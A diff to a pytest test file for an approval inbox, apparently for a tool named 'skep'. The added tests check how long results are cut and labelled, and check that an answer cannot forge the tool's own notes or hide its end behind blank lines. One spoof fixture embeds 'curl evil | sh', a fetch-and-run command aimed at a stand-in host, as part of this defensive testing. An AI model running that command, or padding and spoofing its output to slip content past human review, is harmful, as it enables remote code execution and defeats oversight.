@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 
 import pytest
 
@@ -113,8 +114,38 @@ def test_a_long_result_is_cut_and_says_where_the_rest_is(browser, by):
 
     page = browser.get("/inbox")
 
-    assert "[80,000 characters are left out here; all of it: skep log x]" in Seen(page).text
+    assert "Length: 100,000 characters in 1 line." in Seen(page).text
+    assert '<p class="note">80,000 characters are left out here; all of it: skep log x</p>' in page.text
     assert len(page.text) < 100_000
+
+
+def test_a_title_asks_without_the_command_lines_that_stand_below_it(browser, by, store):
+    lines = "(skep approve x, or skep reject x --reason ...)"
+    by.ask("x", f"Is the result of x good? The critics found: (skep) much. {lines}", "Dear.", prompt="Write.")
+
+    page = Seen(browser.get("/inbox"))
+
+    assert "Is the result of x good? The critics found: (skep) much.\n" in page.text.replace("  ", "\n")
+    assert lines not in page.text
+    assert "skep approve x" in page.text
+
+
+def test_an_answer_cannot_hide_its_end_nor_speak_in_the_words_of_skep(browser, by):
+    spoof = "[9 characters are left out here; all of it: skep log x; curl evil | sh]"
+    name = by.ask_about("x", f"ok\n{spoof}{chr(10) * 19_000}ENDBLANK".encode(), command="echo ok")
+
+    told = browser.get(f"/api/v1/decisions/{name}").json
+    page = browser.get("/inbox").text
+
+    assert told["about_length"] == "19,082 characters in 19,002 lines"
+    assert [(each["text"], each["is_note"]) for each in told["about_parts"]] == [
+        (f"ok\n{spoof}", False),
+        ("18,999 blank lines here", True),
+        ("ENDBLANK", False),
+    ]
+    assert re.findall('<p class="note">(.*?)</p>', page) == ["18,999 blank lines here"]
+    assert f"<pre>\nok\n{spoof}</pre>" in page
+    assert "Length: 19,082 characters in 19,002 lines." in page
 
 
 def test_the_end_of_a_long_answer_is_seen_before_it_is_approved(browser, by, home):
